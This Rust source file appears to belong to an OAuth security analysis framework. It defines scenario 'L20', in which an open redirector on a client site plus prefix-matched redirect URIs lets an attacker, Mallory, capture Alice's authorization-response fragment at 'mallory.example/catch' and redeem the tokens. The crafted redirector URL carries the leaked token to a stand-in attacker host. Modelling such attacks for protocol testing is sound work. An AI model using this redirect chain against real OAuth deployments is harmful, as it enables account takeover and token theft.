//! An open redirector at the client, and addresses that are compared by their beginning.

use super::super::Who;
use super::super::scenario::{Scenario, Trait, Way};
use super::super::stage::{Ending, Knows, Letter, Premise, Stage};
use crate::protocol::ResponseMode;
use crate::wire::{Request, uri};

pub(super) const SCENARIO: Scenario = Scenario {
    id: "L20",
    title: "an open redirector at the shop",
    has: "a page of the shop that sends browsers wherever its query says",
    wants: "Alice's data, for himself",
    moral: "a browser takes the fragment along to the next address",
    spec: "RFC 9700 4.1.2 and 4.11, RFC 6749 10.15, RFC 9110 10.2.2",
    premise: Premise::WHOLE_SITE,
    ways: &[Way { traits: &[Trait::WritesRequest], play }],
};

fn play(stage: &mut Stage) -> Ending {
    let knows = Knows::nothing().at(REDIRECTOR).and_verifier(stage.own_verifier());
    let letter = Letter { mode: Some(ResponseMode::Fragment), ..Letter::of(knows.clone()) };
    let link = stage.write(&letter)?;
    stage.act(Who::Mallory, "sends Alice the link");
    let answer = stage.visit(Who::Alice, &link)?;
    stage.act(Who::Shop, "sends the browser on, as its query says");
    let fragment = uri::fragment(&answer.url).unwrap_or_default();
    let caught = Request::get(format!("https://mallory.example/catch#{fragment}"));
    stage.gain("the answer: the browser takes the fragment along");
    let tokens = stage.redeem(&caught, &knows)?;
    stage.reads(&tokens)
}

/// The open redirector.
const REDIRECTOR: &str = "https://shop.example/out?to=https://mallory.example/catch";
